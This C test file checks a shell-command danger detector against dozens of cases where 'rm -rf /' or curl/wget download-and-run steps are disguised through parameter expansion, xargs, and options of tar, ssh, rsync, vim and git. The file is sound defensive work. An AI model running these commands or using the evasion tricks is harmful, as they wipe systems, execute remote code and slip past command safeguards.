/* Values, items and options that lead to a command.
 *
 * SPDX-License-Identifier: MIT
 */
#include "danger_rig.h"

TEST(values_are_followed_through_what_is_cut_off_or_put_in)
{
    static const struct trick cases[] = {
        { "x=a; unset x; rm -rf /$x", ROOT },
        { "x=a y=b; unset x y; rm -rf /$y", ROOT },
        { "x=a; unset y; rm -rf /$x", NULL },
        { "x=/; y=x; rm -rf ${!y}", ROOT },
        { "y=x; rm -rf a${!y}", NULL },
        { "rm -rf ${HOME:?}", ROOT },
        { "rm -rf ${HOME?not set}", ROOT },
        { "rm -rf ${x:+a}/", ROOT },
        { "x=; rm -rf ${x:+a}/", ROOT },
        { "x=b; rm -rf ${x+/}", ROOT },
        { "x=b; rm -rf ${x:+a}", NULL },
        { "rm -rf \"${HOME%/}\"", ROOT },
        { "a=/x; rm -rf ${a%x}", ROOT },
        { "a=/x; rm -rf ${a%%x}", ROOT },
        { "a=/x; rm -rf ${a%y}", NULL },
        { "a=x/; rm -rf ${a#x}", ROOT },
        { "a=x/; rm -rf ${a##x}", ROOT },
        { "a=/x; rm -rf ${a:0:1}", ROOT },
        { "a=/x; rm -rf ${a: 0:1}", ROOT },
        { "a=/x; rm -rf ${a:0:2}", NULL },
        { "a=x/; rm -rf ${a:1}", ROOT },
        { "a=x/; rm -rf ${a:1:}", ROOT },
        { "a=/; rm -rf x${a:1:99999999999999999999}", NULL },
        { "a=/; rm -rf x${a:99:99}", NULL },
        { "a=rmx; ${a%x} -rf /", ROOT },
        { "set -- /; for d; do rm -rf $d; done", ROOT },
        { "set -- a /; for d do rm -rf $d; done", ROOT },
        { "bash -c 'for d; do rm -rf $d; done' x /", ROOT },
        { "bash -c 'for d; do rm -rf $d; done' x a", NULL },
        { "cd /; find . -delete", ROOT },
        { "cd /; find -delete", ROOT },
        { "cd /; find -L . -exec rm -rf {} +", ROOT },
        { "cd /tmp/x; find . -delete", NULL },
        { "find . -name x -delete", NULL },
    };

    expect(cases, ARRAY_LEN(cases));
}

TEST(what_xargs_reads_is_split_as_it_is_told)
{
    static const struct trick cases[] = {
        { "printf '%s\\0' / | xargs -0 rm -rf", ROOT },
        { "printf 'a\\0/\\0' | xargs --null rm -rf", ROOT },
        { "echo rm -rf / | xargs -0 bash -c", ROOT },
        { "echo rm -rf / | xargs -d '\\n' bash -c", ROOT },
        { "echo rm -rf / | xargs -I{} sh -c {}", ROOT },
        { "echo rm -rf / | xargs -0 -I% sh -c %", ROOT },
        { "xargs -a <(echo /) rm -rf", ROOT },
        { "echo / > x; xargs -a x rm -rf", ROOT },
        { "echo / > x; xargs --arg-file=x rm -rf", ROOT },
        { "curl http://x | xargs -I{} bash -c {}", LOAD },
        { "curl http://x | xargs -0 bash -c", LOAD },
        { "curl http://x | xargs", NULL },
        { "curl http://x | xargs -n 1 wget", NULL },
        { "curl http://x | xargs -I{} bash -c 'echo \"$1\"' x {}", NULL },
        { "printf 'a b\\0' | xargs -0 rm -rf", NULL },
        { "find . -name '*.o' -print0 | xargs -0 rm -f", NULL },
    };

    expect(cases, ARRAY_LEN(cases));
}

TEST(options_of_other_programs_do_not_hide_commands)
{
    static const struct trick cases[] = {
        { "tar cf x --checkpoint-action=exec='rm -rf /' y", ROOT },
        { "tar xf x --to-command='rm -rf /'", ROOT },
        { "tar --use-compress-program='rm -rf /' -xf x", ROOT },
        { "ssh -o ProxyCommand='rm -rf /' host", ROOT },
        { "ssh -oProxyCommand='rm -rf /' host", ROOT },
        { "rsync --rsh='sh -c \"rm -rf /\"' a b:c", ROOT },
        { "vim -c '!rm -rf /' x", ROOT },
        { "vim '+!rm -rf /' x", ROOT },
        { "git -c core.pager='rm -rf /' log", ROOT },
        { "git -c alias.x='!rm -rf /' x", ROOT },
        { "git config alias.x '!rm -rf /'", ROOT },
        { "sudo git -c core.editor='rm -rf /' commit", ROOT },
        { "ruby -e '`rm -rf /`'", ROOT },
        { "perl -e 'print `rm -rf /`'", ROOT },
        { "curl -sSLo y http://x; sh y", LOAD },
        { "wget -qO y http://x; . ./y", LOAD },
        { "tar czf x.tgz --checkpoint-action=exec=date y", NULL },
        { "ssh -o ProxyCommand='nc %h %p' host ls", NULL },
        { "git commit -m 'Do not type rm -rf / here!'", NULL },
        { "git -c core.pager=cat log", NULL },
        { "git log '!x'", NULL },
        { "vim +12 x", NULL },
        { "node -e 'console.log(`a ${1}`)'", NULL },
        { "curl -so y http://x; cat y", NULL },
    };

    expect(cases, ARRAY_LEN(cases));
}
